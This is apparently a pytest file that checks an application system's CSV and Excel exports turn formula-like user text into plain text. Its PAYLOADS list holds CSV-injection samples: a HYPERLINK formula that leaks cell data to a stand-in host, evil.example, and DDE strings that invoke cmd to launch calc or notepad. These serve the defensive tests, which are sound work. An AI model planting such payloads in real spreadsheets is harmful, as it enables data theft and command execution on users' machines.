"""Exports that cannot run code: user text starting with = + - @ TAB CR is text in xlsx and CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from models.cells import csv_cell, is_formula_like, write_csv
from models.enums import Role
from programmes.recommendation import submit_ranked_recommendation
from programmes.summary_table import HEADER_ROW, write_summary_table
from states.export import export_audit
from states.service import transition
from tests.programmes.conftest import T0, actor, applicant, make_application, make_enterprise

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
# The payloads OWASP lists for CSV injection, one per dangerous first character.
PAYLOADS = [
    HYPERLINK,
    "=1+2",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_becomes_an_apostrophe_prefixed_csv_cell(payload: str) -> None:
    assert is_formula_like(payload)
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["青浦智能工厂", "-5", "+86", "12.5", 7, None, "a=b", ""])
def test_ordinary_values_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def test_write_csv_protects_every_cell() -> None:
    out = io.StringIO()
    write_csv(out, ["name", "n"], [{"name": HYPERLINK, "n": 3}])
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row == {"name": "'" + HYPERLINK, "n": "3"}


def test_hyperlink_in_a_name_is_text_in_the_summary_table(session: Session, tmp_path: Path) -> None:
    officer = actor(session, Role.LOCAL_OFFICER, "sh.qingpu")
    ids = []
    for payload in PAYLOADS[:3]:
        enterprise = make_enterprise(session, name=payload)
        application = make_application(session, enterprise)
        application.title = "+" + payload.lstrip("=")
        application.content = {**(application.content or {}), "contact_name": "@SUM(1+1)"}
        session.add(application)
        session.commit()
        transition(session, application.id, "submit", actor=applicant(session, enterprise), at=T0)  # type: ignore[arg-type]
        ids.append(application.id)
    submit_ranked_recommendation(session, unit="sh.qingpu", tier="excellent", ranked_application_ids=ids,  # type: ignore[arg-type]
                                 actor=officer, at=T0)  # fmt: skip
    path = write_summary_table(session, unit="sh.qingpu", tier="excellent", season="2025", path=tmp_path / "t.xlsx")
    sheet = load_workbook(path)["推荐汇总表"]
    for offset, payload in enumerate(PAYLOADS[:3], 1):
        name, title = sheet.cell(HEADER_ROW + offset, 2), sheet.cell(HEADER_ROW + offset, 3)
        contact = sheet.cell(HEADER_ROW + offset, 5)
        assert (name.value, name.data_type) == (payload, "s")  # shown as written, never a formula
        assert title.data_type == "s" and contact.data_type == "s" and contact.value == "@SUM(1+1)"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_audit_csv_writes_a_formula_reason_as_text(session: Session, tmp_path: Path) -> None:
    enterprise = make_enterprise(session)
    application = make_application(session, enterprise)
    transition(session, application.id, "submit", actor=applicant(session, enterprise), at=T0,  # type: ignore[arg-type]
               reason=HYPERLINK)  # fmt: skip
    export_audit(session, tmp_path)
    with (tmp_path / "audit.csv").open(encoding="utf-8", newline="") as handle:
        reasons = [row["reason"] for row in csv.DictReader(handle)]
    assert "'" + HYPERLINK in reasons
    assert not [r for r in reasons if is_formula_like(r)]
